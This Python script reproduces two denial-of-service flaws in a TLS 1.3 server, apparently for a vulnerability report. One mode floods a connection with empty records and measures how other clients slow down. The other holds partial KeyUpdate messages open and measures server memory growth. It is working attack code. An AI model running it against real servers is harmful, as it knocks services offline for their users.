#!/usr/bin/env python3
"""Minimal reproductions of the two broken TLS promises.

  python3 repro.py stall PORT [MODE] [SECONDS]
      One TLS 1.3 connection sends records carrying (almost) no plaintext
      (MODE empty32: 32 empty records then a 1-byte one; tiny: 1 byte per
      record; pad: 1 byte padded to a full record) for SECONDS, while a
      second, keep-alive HTTPS client GETs / every 100 ms. Prints that
      client's latencies.
  python3 repro.py hold PORT PID [CONNS]
      CONNS connections finish a TLS 1.3 handshake, then each sends the
      first 64,999 bytes of a 65,000-byte KeyUpdate message in 5 encrypted
      records and stays silent. Prints the server's RSS growth per connection.
"""
import os
import socket
import ssl
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import tlslib  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))


def rss_kb(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])


def stall(port, mode="empty32", seconds=10):
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    probe = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname="localhost")
    lats, stop = [], threading.Event()

    def prober():
        while not stop.is_set():
            t = time.monotonic()
            probe.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
            buf = b""
            while b"\r\n\r\n" not in buf:
                buf += probe.recv(65536)
            head, _, body = buf.partition(b"\r\n\r\n")
            n = int([l for l in head.split(b"\r\n") if l.lower().startswith(b"content-length")][0].split(b":")[1])
            while len(body) < n:
                body += probe.recv(65536)
            lats.append((time.monotonic() - t) * 1000)
            time.sleep(0.1)
    th = threading.Thread(target=prober)
    th.start()
    time.sleep(2)
    quiet = sorted(lats)
    c = tlslib.Tls13(port)
    c.sock.setblocking(True)
    rd = socket.socket(fileno=os.dup(c.sock.fileno()))

    def drain():
        import select
        while not stop.is_set():
            if select.select([rd], [], [], 0.5)[0]:
                try:
                    if not rd.recv(65536, socket.MSG_DONTWAIT):
                        return
                except (BlockingIOError, OSError):
                    pass
    threading.Thread(target=drain, daemon=True).start()
    suite = {"TLS_AES_256_GCM_SHA384": "aes256", "TLS_AES_128_GCM_SHA256": "aes128"}.get(c.suite, "chacha")
    n0 = len(lats)
    out = subprocess.run([os.path.join(HERE, "target/release/recgen"), str(c.sock.fileno()), suite,
                          c.tx.key.hex(), c.tx.iv.hex(), "0", mode, str(seconds)],
                         pass_fds=[c.sock.fileno()], capture_output=True).stdout.decode().strip()
    time.sleep(1)
    during = sorted(lats[n0:])
    stop.set()
    th.join(10)
    print("attacker:", out)
    print(f"probe quiet : n={len(quiet)} p50={quiet[len(quiet)//2]:.1f} ms max={quiet[-1]:.1f} ms")
    print(f"probe attack: n={len(during)} in {seconds + 1} s (expected ~{int((seconds + 1) * 10)}), "
          f"p50={during[len(during)//2]:.1f} ms max={during[-1]:.1f} ms")


def hold(port, pid, conns=200):
    r0 = rss_kb(pid)
    keep = []
    for _ in range(conns):
        c = tlslib.Tls13(port)
        msg = b"\x18" + (65000).to_bytes(3, "big") + bytes(65000)
        msg = msg[:-1]
        for i in range(0, len(msg), 16000):
            c.send(c.tx.seal(22, msg[i:i + 16000]))
        keep.append(c)
    time.sleep(2)
    r1 = rss_kb(pid)
    print(f"{conns} connections, RSS {r0/1024:.1f} -> {r1/1024:.1f} MB = "
          f"{(r1 - r0) * 1024 / conns:.0f} bytes per connection (SECURITY.md: at most one record, 18 KiB; "
          f"idle TLS connection about 4.9 KB)")
    t0 = time.monotonic()
    import select
    open_ = {c.sock for c in keep}
    while open_ and time.monotonic() - t0 < 90:
        for s in select.select(list(open_), [], [], 1)[0]:
            try:
                if not s.recv(65536):
                    open_.discard(s)
            except OSError:
                open_.discard(s)
    print(f"closed by the server after {time.monotonic() - t0 + 2:.0f} s: {conns - len(open_)} of {conns}")


if __name__ == "__main__":
    cmd = sys.argv[1]
    if cmd == "stall":
        stall(int(sys.argv[2]), *(sys.argv[3:4] or ["empty32"]), *[float(x) for x in sys.argv[4:5]])
    else:
        hold(int(sys.argv[2]), int(sys.argv[3]), *[int(x) for x in sys.argv[4:5]])
